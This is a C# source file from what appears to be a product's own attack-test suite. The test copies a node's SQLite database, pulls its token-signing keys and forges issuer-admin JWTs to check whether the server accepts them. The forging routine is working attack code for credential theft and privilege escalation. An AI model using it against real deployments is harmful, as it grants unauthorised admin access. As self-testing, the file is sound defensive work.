using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Microsoft.Data.Sqlite;

namespace Meterai.Cli.Attacks.Secrets;

/// <summary>
/// Issue 10 item 5: someone who can read the node's data folder (or a backup of it) copies the SQLite database,
/// takes every row of token_signing_keys and signs a fresh issuer-admin token with each (the operator's id, as the
/// operators table shows it, is taken from the runner's own token). Held when no such token is accepted.
/// </summary>
public sealed class TokenKeyFromDataFolder : IAttack
{
    public string Id => "token-key-from-data-folder";

    public string Item => "5";

    public string Description => "read token_signing_keys from the data folder's database and sign an issuer-admin token with it";

    public async Task<AttackOutcome> RunAsync(AttackTarget target, CancellationToken ct)
    {
        if (target.DataDirectory is not { } data) return AttackOutcome.Skipped("no access to the node's data folder (--data-dir)");
        var database = Path.Combine(data, "meterai.db");
        if (!File.Exists(database)) return AttackOutcome.Held("the data folder holds no database (PostgreSQL node): nothing there signs a token");

        var genuine = await target.IssuerAdminTokenAsync(ct);
        var tried = new List<string>();
        foreach (var (keyId, secret) in await ReadKeysAsync(database, ct))
        {
            var forged = Sign(genuine, keyId, secret);
            var answer = await target.SendJsonAsync(HttpMethod.Get, "/api/v1/issuer", null, forged, null, ct);
            if (answer.Status == HttpStatusCode.OK) return AttackOutcome.Breached($"a token signed with the stored key {keyId} was accepted: {answer}");
            tried.Add($"{keyId}: {answer}");
        }

        return AttackOutcome.Held(tried.Count == 0 ? "no token signing key in the database" : "every stored key was refused: " + string.Join("; ", tried));
    }

    /// <summary>The rows as a backup reader gets them: a copy of the file (with its WAL), opened read-only.</summary>
    private static async Task<List<(string, byte[])>> ReadKeysAsync(string database, CancellationToken ct)
    {
        var copy = Directory.CreateTempSubdirectory("meterai-attack-copy-").FullName;
        try
        {
            foreach (var suffix in new[] { "", "-wal" })
            {
                if (File.Exists(database + suffix)) File.Copy(database + suffix, Path.Combine(copy, "meterai.db" + suffix));
            }

            await using var connection = new SqliteConnection(new SqliteConnectionStringBuilder { DataSource = Path.Combine(copy, "meterai.db"), Pooling = false }.ToString());
            await connection.OpenAsync(ct);
            await using var command = connection.CreateCommand();
            command.CommandText = "SELECT key_id, secret FROM token_signing_keys";
            var keys = new List<(string, byte[])>();
            await using var reader = await command.ExecuteReaderAsync(ct);
            while (await reader.ReadAsync(ct)) keys.Add((reader.GetString(0), (byte[])reader[1]));
            return keys;
        }
        finally
        {
            Directory.Delete(copy, recursive: true);
        }
    }

    private static string Sign(string genuine, string keyId, byte[] secret)
    {
        var claims = JsonSerializer.Deserialize<Dictionary<string, JsonElement>>(Base64Url.Decode(genuine.Split('.')[1]))!;
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        var payload = claims.ToDictionary(c => c.Key, c => (object)c.Value);
        payload["iat"] = now;
        payload["exp"] = now + 600;
        payload["jti"] = Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(12));
        var input = Base64Url.Encode(JsonSerializer.SerializeToUtf8Bytes(new { alg = "HS256", typ = "JWT", kid = keyId })) + "." + Base64Url.Encode(JsonSerializer.SerializeToUtf8Bytes(payload));
        return input + "." + Base64Url.Encode(HMACSHA256.HashData(secret, Encoding.ASCII.GetBytes(input)));
    }
}

internal static class Base64Url
{
    public static string Encode(byte[] bytes) => Convert.ToBase64String(bytes).TrimEnd('=').Replace('+', '-').Replace('/', '_');

    public static byte[] Decode(string text)
    {
        var s = text.Replace('-', '+').Replace('_', '/');
        return Convert.FromBase64String(s + new string('=', (4 - s.Length % 4) % 4));
    }
}
